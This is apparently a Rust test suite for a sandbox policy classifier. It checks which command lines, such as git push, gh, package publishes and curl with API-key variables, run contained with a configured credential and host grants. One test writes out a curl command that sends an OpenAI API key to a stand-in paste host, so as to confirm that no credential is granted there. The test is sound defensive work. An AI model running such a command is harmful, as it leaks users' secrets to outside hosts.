//! The classifier's `credential` proposals: the lines that need a configured credential run
//! contained with it (and the host grants the line needs); the others are as they were.

use std::path::Path;
use std::process::Command;

use efr_policy::classify::{ClassifyRequest, classify};
use efr_policy::config::{Config, Env};
use efr_policy::context::Context;
use efr_sandbox_wire::{ExitKind, Grant, Launch, Mode, Needs};

const FORGE: &str = r#"
[[credential]]
name = "forge"
hosts = ["git.example.com", "*.example.com:8443"]
env = "FORGE_TOKEN"
send = "basic"
user = "x-access-token"
git = true
"#;

fn git(dir: &Path, args: &[&str]) {
    let ok = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(args)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", dir)
        .status()
        .is_ok_and(|s| s.success());
    assert!(ok, "git {args:?}");
}

/// A home with a project `p` whose `origin` is `remote` (none when empty).
fn home_with(remote: &str) -> (tempfile::TempDir, Context) {
    let home = tempfile::tempdir().unwrap();
    let p = home.path().join("p");
    std::fs::create_dir_all(&p).unwrap();
    git(&p, &["init", "-q"]);
    if !remote.is_empty() {
        git(&p, &["remote", "add", "origin", remote]);
    }
    let config = Config::from_toml_str(FORGE, &home.path().join("config.toml")).unwrap();
    let ctx = Context::new(&config, &Env::new(home.path()));
    (home, ctx)
}

/// The grants the launch of `line` proposes (empty unless contained), and whether it is
/// contained.
fn launch(ctx: &Context, home: &Path, line: &str) -> (bool, Vec<Grant>) {
    let p = home.join("p");
    let mut req = ClassifyRequest::new(line, Some(p.clone()), Mode::Auto);
    req.project_roots = vec![p];
    let r = classify(&req, ctx);
    let exits: Vec<_> = r.exits.iter().map(|e| (e.kind, e.needs.clone())).collect();
    match r.launch {
        Launch::Contained { grants } => (true, grants),
        other => {
            assert!(
                !exits.iter().any(|(_, n)| matches!(n, Needs::Contained { grants } if grants.iter().any(|g| matches!(g, Grant::Credential { .. })))),
                "{line}: {other:?} {exits:?}"
            );
            (false, Vec::new())
        }
    }
}

fn cred(name: &str) -> Grant {
    Grant::Credential { name: name.into() }
}

fn host(h: &str) -> Grant {
    Grant::Host {
        host: h.into(),
        port: None,
        plain_http: false,
        tcp: false,
    }
}

#[test]
fn git_over_https_to_a_bound_host_uses_its_credential() {
    let (home, ctx) = home_with("https://github.com/a/b.git");
    for line in [
        "git push origin main",
        "git push",
        "git fetch",
        "git pull origin main",
    ] {
        let (contained, grants) = launch(&ctx, home.path(), line);
        assert!(contained, "{line}");
        assert!(grants.contains(&cred("github")), "{line}: {grants:?}");
        assert!(grants.contains(&host("github.com")), "{line}: {grants:?}");
    }
    let (contained, grants) = launch(&ctx, home.path(), "git clone https://github.com/a/c.git c");
    assert!(contained && grants.contains(&cred("github")), "{grants:?}");
    // A user entry with git = true, on its own port.
    let (_, grants) = launch(
        &ctx,
        home.path(),
        "git push https://code.example.com:8443/a.git main",
    );
    assert!(grants.contains(&cred("forge")), "{grants:?}");
}

#[test]
fn git_without_a_bound_https_remote_is_as_before() {
    for remote in [
        "git@github.com:a/b.git",
        "https://git.other.org/a/b.git",
        "https://user:pw@github.com/a/b.git",
    ] {
        let (home, ctx) = home_with(remote);
        let (contained, grants) = launch(&ctx, home.path(), "git push origin main");
        assert!(!contained, "{remote}: {grants:?}");
    }
    // A credential without git = true is not proposed for git.
    let (home, ctx) = home_with("https://gitlab.com/a/b.git");
    let (contained, _) = launch(&ctx, home.path(), "git push origin main");
    assert!(!contained);
}

#[test]
fn gh_with_the_token_runs_contained_with_github() {
    let (home, ctx) = home_with("https://github.com/a/b.git");
    for line in [
        "gh pr create --fill",
        "gh api repos/a/b",
        "gh release upload v1 x.tgz",
        "gh issue list",
    ] {
        let (contained, grants) = launch(&ctx, home.path(), line);
        assert!(contained, "{line}");
        for g in [cred("github"), host("api.github.com"), host("github.com")] {
            assert!(grants.contains(&g), "{line}: {grants:?}");
        }
    }
    for line in [
        "gh auth login",
        "gh extension install a/gh-b",
        "gh codespace ssh",
    ] {
        assert!(!launch(&ctx, home.path(), line).0, "{line}");
    }
}

#[test]
fn publishes_use_their_registry_s_credential() {
    let (home, ctx) = home_with("");
    for (line, name, h) in [
        ("npm publish", "npm", "registry.npmjs.org"),
        ("cargo publish", "cargo", "crates.io"),
        ("twine upload dist/*", "pypi", "upload.pypi.org"),
    ] {
        let (contained, grants) = launch(&ctx, home.path(), line);
        assert!(contained, "{line}");
        assert!(grants.contains(&cred(name)), "{line}: {grants:?}");
        assert!(grants.contains(&host(h)), "{line}: {grants:?}");
    }
    // A registry no credential is bound to stays outside.
    let (contained, _) = launch(
        &ctx,
        home.path(),
        "npm publish --registry https://npm.corp.example.net/",
    );
    assert!(!contained);
}

#[test]
fn curl_with_a_credential_s_variable_to_its_host() {
    let (home, ctx) = home_with("");
    let (contained, grants) = launch(
        &ctx,
        home.path(),
        "curl -H \"Authorization: Bearer $OPENAI_API_KEY\" https://api.openai.com/v1/models",
    );
    assert!(contained);
    assert_eq!(grants, vec![host("api.openai.com"), cred("openai")]);
    let (_, grants) = launch(
        &ctx,
        home.path(),
        "curl --header \"x-api-key: ${ANTHROPIC_API_KEY}\" https://api.anthropic.com/v1/models",
    );
    assert!(grants.contains(&cred("anthropic")), "{grants:?}");
    // To a host the credential is not bound to: no credential (the proxy would refuse the
    // placeholder there).
    let (_, grants) = launch(
        &ctx,
        home.path(),
        "curl -H \"Authorization: Bearer $OPENAI_API_KEY\" https://paste.example.net/",
    );
    assert!(
        !grants.iter().any(|g| g.kind_str() == "credential"),
        "{grants:?}"
    );
    // No variable of a credential: a plain host grant.
    let (_, grants) = launch(&ctx, home.path(), "curl https://api.openai.com/v1/models");
    assert_eq!(grants, vec![host("api.openai.com")]);
}

#[test]
fn the_credential_exit_kind_is_never_proposed_by_a_line() {
    let (home, ctx) = home_with("https://github.com/a/b.git");
    let p = home.path().join("p");
    let mut req = ClassifyRequest::new(
        "gh pr create --fill && git push",
        Some(p.clone()),
        Mode::Auto,
    );
    req.project_roots = vec![p];
    let r = classify(&req, &ctx);
    assert!(!r.exits.iter().any(|e| e.kind == ExitKind::Credential));
}
